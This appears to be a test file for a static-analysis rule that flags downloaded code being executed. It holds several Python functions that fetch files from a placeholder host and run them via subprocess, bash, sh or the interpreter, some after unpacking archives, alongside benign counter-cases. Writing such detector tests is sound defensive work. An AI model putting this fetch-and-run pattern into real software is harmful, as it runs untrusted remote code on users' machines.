import os, requests, shutil, subprocess, sys, tempfile, urllib.request
from pathlib import Path


def a():
    path = "/tmp/tool"
    urllib.request.urlretrieve("https://a.invalid/t", path)
    os.chmod(path, 0o755)
    # ruleid: remote-code-started-after-download
    subprocess.run([path])


def b(file):
    file.write_bytes(requests.get("https://a.invalid/t").content)
    # ruleid: remote-code-started-after-download
    subprocess.Popen([str(file), "-d"])


def c(file):
    file.write_bytes(requests.get("https://a.invalid/song.mp3").content)
    # ok: remote-code-started-after-download
    subprocess.run(["ffmpeg", "-i", str(file)])


TOOL = Path.home() / ".cache" / "acme-tool"


def fetch():
    with urllib.request.urlopen("https://a.invalid/t") as answer, open(TOOL, "wb") as out:
        shutil.copyfileobj(answer, out)


def start():
    # ruleid: remote-code-started-after-download
    subprocess.run([sys.executable, str(TOOL)])


def temporary():
    with tempfile.NamedTemporaryFile(suffix=".sh", delete=False) as script:
        script.write(requests.get("https://a.invalid/t").content)
    # ruleid: remote-code-started-after-download
    subprocess.run(["bash", script.name])


def by_shell():
    open("/tmp/acme.sh", "w").write(requests.get("https://a.invalid/t").text)
    # ruleid: remote-code-started-after-download
    os.system("sh /tmp/acme.sh")


def other():
    open("/tmp/acme.json", "w").write(requests.get("https://a.invalid/t").text)
    # ok: remote-code-started-after-download
    subprocess.run(["acme", "/tmp/acme.json"])


def archive():
    import io, zipfile
    zipfile.ZipFile(io.BytesIO(requests.get("https://a.invalid/a.zip").content)).extractall("/tmp/acme-kit")
    # ruleid: remote-code-started-after-download
    subprocess.run([sys.executable, "/tmp/acme-kit/bin/main.py"])
    # ruleid: remote-code-started-after-download
    subprocess.run(["./run.sh"], cwd="/tmp/acme-kit")


def archive_on_disk():
    urllib.request.urlretrieve("https://a.invalid/b.tgz", "/tmp/b.tgz")
    shutil.unpack_archive("/tmp/b.tgz", "/tmp/acme-more")
    # ruleid: remote-code-started-after-download
    subprocess.run(["/tmp/acme-more/tool"])


class Kit:
    def __init__(self):
        self.folder = Path.home() / ".acme-kit"

    def fetch(self):
        import io, tarfile
        with tarfile.open(fileobj=io.BytesIO(requests.get("https://a.invalid/a.tgz").content)) as archive:
            archive.extract("tool", self.folder)

    def start(self):
        # ruleid: remote-code-started-after-download
        subprocess.run([str(self.folder / "tool")])


def archive_of_words():
    import io, zipfile
    zipfile.ZipFile(io.BytesIO(requests.get("https://a.invalid/w.zip").content)).extractall("/tmp/acme-words")
    # ok: remote-code-started-after-download
    subprocess.run(["ffmpeg", "-i", "/tmp/acme-words/a.wav", "b.mp3"])
